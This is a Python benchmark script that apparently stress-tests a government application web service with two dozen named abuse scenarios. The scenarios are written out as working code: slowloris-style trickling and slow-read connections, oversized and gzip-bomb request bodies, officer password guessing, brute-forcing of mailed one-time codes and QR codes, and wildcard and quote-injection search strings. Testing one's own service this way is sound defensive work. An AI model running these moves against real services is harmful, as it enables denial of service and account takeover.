# ruff: noqa: INP001 -- beside the programs that use it, not a package
"""What ``attack.py`` lets an attacker do, in a process of its own.

python benchmarks/attack_moves.py NAME FILE, where FILE holds a ``Target`` as JSON. Each attack goes
on until its time is over. One move of it is a function of the target; so many run at once, each
after a pause.
"""

import gzip
import json
import os
import random
import socket
import sys
import threading
import time
from collections.abc import Callable, Mapping
from contextlib import suppress
from dataclasses import dataclass
from functools import cache
from pathlib import Path
from types import MappingProxyType
from typing import Final
from urllib.parse import urlencode
from uuid import uuid4

import urllib3

sys.path.insert(0, str(Path(__file__).resolve().parent.parent))

from attack_browser import Browser, any_address

TYPED: Final = {"Content-Type": "application/x-www-form-urlencoded"}
MIB: Final = 1 << 20
TRICKLING: Final = 66
NICENESS: Final = 10
"""An attacker has a machine of their own, whose time the service does not pay."""


@dataclass(frozen=True, slots=True, kw_only=True)
class Target:
    """What an attacker knows: addresses, own accounts, and what is public of others."""

    base: str
    seconds: float
    ruc: str
    """A public RUC, somebody else's."""
    application: str
    """The id of somebody else's sent application."""
    officer: str
    """An officer's user name."""
    cookie: str
    """The attacker's own session."""
    own: str
    """The id of the attacker's own draft."""
    sent: str
    """The id of the attacker's own sent application."""
    sent_cookie: str
    officer_cookie: str
    """A session of an officer who is the attacker, or whose browser was taken over."""
    files: str
    """A folder with files to send."""


def _strange(target: Target) -> Browser:
    return Browser(target.base)


def _own(target: Target) -> Browser:
    return Browser(target.base, "10.66.6.6", {"solicitante": target.cookie})


def _typed(browser: Browser, page: str, ending: str, **values: str) -> None:
    fields = {**browser.form(page, ending), **values}
    browser.ask("POST", ending, body=urlencode(fields), headers=TYPED)


def _sign_in_mails(target: Target) -> None:
    _typed(_strange(target), "/ingresar", "/ingresar", ruc=target.ruc)


def _confirmation_mails(target: Target) -> None:
    path = f"/solicitudes/{target.application}/confirmar/otra-vez"
    browser = _own(target)
    fields = browser.form(f"/solicitudes/{target.own}/fotos", "/fotos/subir")
    body = urlencode({"csrf_token": fields.get("csrf_token", "")})
    browser.ask("POST", path, body=body, headers=TYPED)


def _officer_passwords(target: Target) -> None:
    _typed(
        _strange(target),
        "/revision/ingresar",
        "/revision/ingresar",
        user_name=target.officer,
        password=uuid4().hex,
    )


def _mailed_codes(target: Target) -> None:
    browser = _strange(target)
    _typed(browser, "/ingresar", "/ingresar", ruc=target.ruc)
    for _ in range(10):
        code = f"{random.randrange(10**6):06d}"  # noqa: S311 -- a guess
        _typed(browser, "/ingresar/enviado", "/ingresar/codigo", code=code)


def _second_address(target: Target) -> None:
    browser = _own(target)
    page = f"/solicitudes/{target.own}/datos"
    fields = browser.form(page, "/datos")
    body = urlencode({**fields, "notice_email": f"{uuid4().hex[:6]}@victima.example"})
    browser.ask("POST", page, body=body, headers=TYPED)
    browser.ask("GET", f"/solicitudes/{target.own}/revisar")


def _file(target: Target, name: str) -> bytes:
    return Path(target.files, name).read_bytes()


def _upload_photo(target: Target) -> None:
    page = f"/solicitudes/{target.own}/fotos"
    data = _file(target, "photo.jpg") + uuid4().bytes
    _own(target).send_file(page, "/fotos/subir", "photos", ("a.jpg", data))


def _upload_pdf(target: Target) -> None:
    """Send a PDF of photos; each replaces the one before."""
    page = f"/solicitudes/{target.own}/pdf"
    data = _file(target, "evidence.pdf") + uuid4().hex.encode()
    _own(target).send_file(page, "/pdf/subir", "pdf", ("a.pdf", data))


def _bomb(name: str) -> Callable[[Target], None]:
    def move(target: Target) -> None:
        chosen = random.choice(sorted(Path(target.files, name).iterdir()))  # noqa: S311
        kind = ("/pdf", "pdf") if name == "pdf" else ("/fotos", "photos")
        page = f"/solicitudes/{target.own}{kind[0]}"
        data = chosen.read_bytes() + uuid4().bytes
        _own(target).send_file(page, f"{kind[0]}/subir", kind[1], (chosen.name, data))

    return move


def _big_typed(target: Target) -> None:
    body = b"a=" + b"x" * (24 * MIB)
    _strange(target).ask("POST", "/verificar", body=body, headers=TYPED)


def _big_parts(target: Target) -> None:
    fields: dict[str, tuple[str, bytes]] = {"archivo": ("a.pdf", b"%PDF-1.7" + bytes(60 * MIB))}
    _strange(target).ask("POST", "/verificar/archivo", fields=fields)


def _connect(target: Target) -> socket.socket:
    host, port = target.base.removeprefix("http://").split(":")
    return socket.create_connection((host, int(port)), timeout=target.seconds)


def _trickle(target: Target) -> None:
    """Send a head byte by byte and never end it."""
    ends_at = time.monotonic() + target.seconds
    with _connect(target) as line:
        head = f"POST /verificar HTTP/1.1\r\nHost: localhost\r\nX-Forwarded-For: {any_address()}"
        body = "Content-Type: application/x-www-form-urlencoded\r\nContent-Length: 4096"
        line.sendall(f"{head}\r\n{body}\r\n\r\n".encode())
        while time.monotonic() < ends_at:
            line.sendall(b"a")
            time.sleep(0.5)


def _read_slowly(target: Target) -> None:
    """Ask for pages on one connection and take a few bytes a second."""
    ends_at = time.monotonic() + target.seconds
    with _connect(target) as line:
        line.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 2048)
        head = "GET /static/css/public.css HTTP/1.1\r\nHost: localhost\r\n\r\n"
        line.sendall((head * 20).encode())
        while time.monotonic() < ends_at:
            line.recv(16)
            time.sleep(0.5)


def _receipt(target: Target) -> None:
    browser = Browser(target.base, "10.66.6.7", {"solicitante": target.sent_cookie})
    browser.ask("GET", f"/solicitudes/{target.sent}/comprobante.pdf")


def _many_fields(target: Target) -> None:
    body = "&".join(f"a{number}=" for number in range(30_000))[: 250 * 1024]
    _strange(target).ask("POST", "/verificar", body=body, headers=TYPED)


def _deep_query(target: Target) -> None:
    asked = "&".join(f"a[{'b' * 20}]={number}" for number in range(120))
    _strange(target).ask("GET", f"/verificar?{asked}")


def _ranges(target: Target) -> None:
    wanted = "bytes=" + ",".join(f"{at}-{at + 1}" for at in range(0, 2400, 3))
    _strange(target).ask("GET", "/static/css/public.css", headers={"Range": wanted[:7000]})


def _guess_numbers(target: Target) -> None:
    number = f"MPCEI-MDT-2026-{random.randrange(10**6):06d}"  # noqa: S311 -- a guess
    _typed(_strange(target), "/verificar", "/verificar", number=number, code=uuid4().hex[:8])


def _guess_codes(target: Target) -> None:
    _strange(target).ask("GET", f"/v/{uuid4().hex}{uuid4().hex[:11]}")


def _wildcards(target: Target) -> None:
    browser = Browser(target.base, "10.66.6.8", {"funcionario": target.officer_cookie})
    asked = random.choice(("%25%25%25", "%25_%25_%25", "_" * 60, "%25a%25", "%27%29%20OR%201"))  # noqa: S311
    browser.ask("GET", f"/revision?q={asked}")
    browser.ask("GET", f"/revision/textos?q={asked}")


def _huge_cookies(target: Target) -> None:
    cookie = "; ".join(f"c{number}={'x' * 90}" for number in range(70))
    _strange(target).ask("GET", "/", headers={"Cookie": cookie})


def _many_sessions(target: Target) -> None:
    browser = Browser(target.base, None, {"solicitante": uuid4().hex, "funcionario": uuid4().hex})
    browser.ask("GET", "/solicitudes")
    browser.ask("GET", "/revision")


@cache
def _packed_body() -> bytes:
    return gzip.compress(bytes(100 * MIB), 1)[: 200 * 1024]


def _packed(target: Target) -> None:
    headers = {**TYPED, "Content-Encoding": "gzip"}
    _strange(target).ask("POST", "/verificar", body=_packed_body(), headers=headers)


def _same_form(target: Target) -> None:
    browser = _own(target)
    page = f"/solicitudes/{target.own}/datos"
    fields = browser.form(page, "/datos")
    for _ in range(5):
        browser.ask("POST", page, body=urlencode(fields), headers=TYPED)


@dataclass(frozen=True, slots=True)
class Attack:
    """One attack: what is done, how many do it at once, and the pause of each after a move."""

    move: Callable[[Target], None]
    at_once: int = 4
    pause_seconds: float = 0.1
    of_issue: bool = False
    """Whether the issue names it; the others are ours."""


ATTACKS: Final[Mapping[str, Attack]] = MappingProxyType(
    {
        "sign-in mails for a public RUC": Attack(_sign_in_mails, of_issue=True),
        "confirmation mails of another's case": Attack(_confirmation_mails, of_issue=True),
        "an officer's passwords": Attack(_officer_passwords, of_issue=True),
        "mailed one-time codes": Attack(_mailed_codes, of_issue=True),
        "unconfirmed second address": Attack(_second_address, 2, of_issue=True),
        "many uploads": Attack(_upload_photo, 2, 0.4, of_issue=True),
        "replaced files": Attack(_upload_pdf, 2, 0.5, of_issue=True),
        "typed body of 24 MB": Attack(_big_typed, 4, of_issue=True),
        "60 MB in parts, anonymous": Attack(_big_parts, 2, of_issue=True),
        "66 trickling connections": Attack(_trickle, TRICKLING, of_issue=True),
        "comprobante.pdf in a loop": Attack(_receipt, of_issue=True),
        "thousands of fields": Attack(_many_fields),
        "deep query strings": Attack(_deep_query),
        "20 slow readers": Attack(_read_slowly, 20),
        "hundreds of ranges": Attack(_ranges),
        "bombs in PDFs": Attack(_bomb("pdf"), 1, 1.0),
        "bombs in pictures": Attack(_bomb("photo"), 1, 1.0),
        "guessed numbers": Attack(_guess_numbers),
        "guessed QR codes": Attack(_guess_codes, 8),
        "wildcards in searches": Attack(_wildcards, 2),
        "huge cookies": Attack(_huge_cookies),
        "made-up sessions": Attack(_many_sessions),
        "packed bodies": Attack(_packed),
        "one form at once": Attack(_same_form),
    }
)
"""Every attack by its name, in the order of the table."""


def _repeat(attack: Attack, target: Target, ends_at: float) -> None:
    while time.monotonic() < ends_at:
        # A refusal, a cut connection and a time-out are what an attacker expects.
        with suppress(urllib3.exceptions.HTTPError, OSError, ValueError):
            attack.move(target)
        time.sleep(attack.pause_seconds)


def main() -> int:
    """Attack until the time is over, with the processor time that the service leaves."""
    os.nice(NICENESS)
    _packed_body()
    attack = ATTACKS[sys.argv[1]]
    target = Target(**json.loads(Path(sys.argv[2]).read_text(encoding="utf-8")))
    ends_at = time.monotonic() + target.seconds
    threads = [
        threading.Thread(target=_repeat, args=(attack, target, ends_at), daemon=True)
        for _ in range(attack.at_once)
    ]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join(max(0.0, ends_at + 1 - time.monotonic()))
    return 0


if __name__ == "__main__":
    sys.exit(main())
